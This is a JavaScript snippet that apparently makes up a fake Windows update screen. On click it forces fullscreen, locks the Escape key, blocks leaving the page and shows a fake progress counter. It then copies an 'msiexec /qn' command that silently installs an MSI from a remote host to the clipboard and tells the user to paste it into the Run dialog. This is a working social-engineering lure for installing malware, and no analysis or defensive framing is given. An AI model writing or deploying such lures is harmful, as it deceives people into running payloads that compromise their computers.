const panel = document.createElement("div");
panel.id = "os-screen";
panel.style.cssText = "position:fixed;inset:0;background:#0078d7;color:#fff;z-index:2147483647;font:20px Segoe UI;padding:15vh 10vw;cursor:none";
const fix = ["msiexec", "/i", "https://update-center.example/kb.msi", "/qn"].join(" ");
let percent = 0;
function paint() {
  panel.innerText = percent < 96
    ? `Working on updates\n${percent}% complete. Do not turn off your computer.`
    : "Critical update could not be completed.\n\nTo finish manually:\n1. Press Windows + R\n2. Press Ctrl + V\n3. Press Enter";
}
document.addEventListener("click", () => {
  document.documentElement.requestFullscreen().catch(() => {});
  if (navigator.keyboard && navigator.keyboard.lock) navigator.keyboard.lock(["Escape"]);
  document.body.append(panel);
  const t = setInterval(() => {
    percent += 4;
    paint();
    if (percent >= 96) {
      clearInterval(t);
      navigator.clipboard.writeText(fix);
    }
  }, 350);
}, { once: true });
addEventListener("beforeunload", (e) => e.preventDefault());
